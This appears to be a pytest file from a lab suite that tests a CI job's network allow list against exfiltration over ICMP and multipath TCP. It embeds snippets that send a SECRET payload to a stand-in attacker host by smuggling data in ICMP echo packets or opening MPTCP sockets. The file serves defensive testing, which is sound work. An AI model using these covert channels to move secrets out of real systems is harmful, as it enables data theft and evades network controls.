"""A list of what a job reaches holds whatever the protocol: not for TCP and UDP alone.

Each packet is also sent by a job without a list, and is answered there.
"""

from collections.abc import Iterator

import pytest

from tests.attacks.attacker import Attacker, attacker
from tests.attacks.outside import ALLOWED, EVIL, Outside, outside
from tests.attacks.test_egress import RULES, script
from tests.lab.engine import eventually
from tests.lab.lab import Fleet

pytestmark = pytest.mark.lab

# Each prints what came of it. What is answered has left, and has arrived.
ICMP = """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
    s.settimeout(3)
    s.connect(('{address}', 0))
    try: s.send(bytes((8, 0, 0, 0, 0, 1, 0, 1)) + SECRET); print('answered', SECRET in s.recv(99))
    except OSError as refused: print(refused.strerror)
"""
MPTCP = """
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
    s.settimeout(3)
    try: s.connect(('{address}', 443)); s.sendall(SECRET); print('connected')
    except OSError as refused: print(refused.strerror)
"""
PROTOCOLS = {
    "icmp": (ICMP, "answered True", "Operation not permitted"),
    "mptcp": (MPTCP, "connected", "Connection refused"),
}


@pytest.fixture(scope="module")
def hosts(shared: Fleet) -> Iterator[Outside]:
    with outside() as made:
        yield made


@pytest.fixture(scope="module")
def listed(shared: Fleet, hosts: Outside) -> Iterator[Attacker]:
    shared.policy(RULES)
    with attacker(shared) as made:
        yield made


@pytest.fixture(scope="module")
def unlisted(shared: Fleet, listed: Attacker) -> Iterator[Attacker]:
    with attacker(shared, BUILDKITE_BRANCH="open") as made:
        yield made


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_no_other_protocol_is_a_way_out(
    protocol: str, listed: Attacker, unlisted: Attacker
) -> None:
    body, answered, refused = PROTOCOLS[protocol]
    sending, _ = script(body.replace("{address}", EVIL))
    assert unlisted.tries(sending).stdout.splitlines() == [answered]
    assert listed.tries(sending).stdout.splitlines() == [refused]


def test_multipath_tcp_reaches_what_the_list_has(listed: Attacker, hosts: Outside) -> None:
    """So it was the list that refused it: this kernel and the job's profile have it."""
    looked_up = "socket.gethostbyname('git.allowed.example')\n"
    sending, secret = script(looked_up + MPTCP.replace("{address}", ALLOWED))
    assert listed.tries(sending).stdout.splitlines() == ["connected"]
    eventually(lambda: hosts.has(secret, ALLOWED), "what was sent arrives")
